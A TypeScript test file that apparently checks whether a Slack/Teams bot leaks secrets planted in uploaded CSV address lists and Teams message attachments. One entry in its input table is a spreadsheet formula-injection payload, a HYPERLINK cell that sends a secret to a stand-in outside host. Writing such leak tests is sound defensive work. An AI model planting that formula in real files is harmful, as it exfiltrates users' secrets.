import { must } from "../../support/must.ts";
import type { TestPerson } from "../../support/servers/slack.ts";
import { sees, startWhole } from "../../support/servers/whole.ts";
import { HOUR, SECOND } from "../../support/world/times.ts";
import type { Outcome } from "../scenario.ts";
import { begin, settle } from "../storm/setup.ts";
import { shownBy } from "./answers.ts";
import { planting } from "./planted-secrets.ts";

const FIELD = "Or a CSV file";
const PERSON = "p@lumen.example";

/** Where in a list that somebody gives a secret can stand: its name, and what is in it. */
const LISTS: Record<string, (secret: string) => readonly [name: string, text: string]> = {
  "the file's name": (secret) => [`${secret.replaceAll("/", "_")}.csv`, `email\n${PERSON}`],
  "a heading": (secret) => ["list.csv", `email;${secret}\n${PERSON};x`],
  "the heading of the addresses": (secret) => ["list.csv", `"e-mail [${secret}]"\n${PERSON}`],
  "a cell that nobody reads": (secret) => ["list.csv", `email;note\n${PERSON};${secret}`],
  "a cell for an address": (secret) => ["list.csv", `email\n${PERSON}\n${secret}`],
  "a name before an address": (secret) => ["list.csv", `email\n"${secret} <${PERSON}>"`],
  "an address": (secret) => ["list.csv", `email\n${PERSON}\n${secret}@lumen.example`],
  "a formula": (secret) => ["list.csv", `email\n${PERSON}\n"=HYPERLINK(""https://x.example/?k=${secret}"")"`],
  "a long cell": (secret) => ["list.csv", `email\n${PERSON}\n${"word ".repeat(120)}${secret}`],
  "no CSV": (secret) => ["list.csv", `PK\u0003\u0004\u0000${secret}`],
};

/** People give lists with secrets in them, and get the Record into a OneDrive whose address alone lets them write there. */
export async function secretsInFiles(seed: number, rounds: number): Promise<Outcome> {
  const { path, log, plant, keptForAWhile, found, remove } = planting("files", seed);
  const world = await startWhole({
    ...{ mode: "guided", platforms: ["slack", "teams"], skips: true, log },
    env: () => ({ DATABASE_PATH: path }),
  });
  const [ana, chloe] = [world.as("ana"), world.as("chloe")];
  const [alsoAna, alsoChloe] = [world.inTeams("ana"), world.inTeams("chloe")];
  const seen: unknown[] = [];

  async function sent(person: Pick<TestPerson, "submit" | "modal" | "close">): Promise<void> {
    for (let times = 0; times < 2 && person.modal() !== null; times += 1) {
      seen.push(await person.submit().catch(() => null), person.modal());
      await world.settle();
    }
    for (let deep = 0; deep < 3; deep += 1) await person.close();
  }

  async function round(n: number): Promise<void> {
    const list = must(plant(n % 2 === 0 ? "slack" : "teams", LISTS));
    if (n % 2 === 0) {
      await chloe.command("invite", "#mistral");
      await sees(chloe.modal, FIELD);
      chloe.fill({ "E-mail addresses": "", [FIELD]: [...list] });
      await sent(chloe);
    } else {
      await alsoChloe.attach(...list);
      await world.settle();
      seen.push(alsoChloe.dm().at(-1));
      if (alsoChloe.buttons("dm").includes("Go on to the form")) {
        await alsoChloe.press("Go on to the form", { in: "dm" });
        await sent(alsoChloe);
      }
    }
    await world.later(65 * SECOND);
  }

  async function record(): Promise<void> {
    await alsoAna.command("record");
    await sees(() => alsoAna.buttons("dm"), "Send it as a file");
    await alsoAna.press("Send it as a file", { in: "dm" });
    await world.later(5 * SECOND);
    world.teams.faults.add({ path: "/upload", fault: { kind: "answer", status: 500, body: {} } });
    await alsoAna.answerFile(true);
    for (const { upload } of world.teams.state().drive ?? [])
      keptForAWhile("where a file was put", upload ?? "?");
    await world.later(65 * SECOND);
  }

  try {
    await begin(world, ["slack"], settle(world, { requesters: 2 }), false);
    await alsoAna.command("settings");
    await sees(() => ana.buttons("dm"), "Yes, that is me");
    await ana.press("Yes, that is me", { in: "dm" });
    await world.settle();
    for (let n = 0; n < rounds; n += 1) await round(n);
    await record();
    for (let hours = 0; hours < 3; hours += 1) await world.later(HOUR);
    return await found(world.bot.store, [seen, shownBy(world)]);
  } finally {
    await world.stop();
    remove();
  }
}
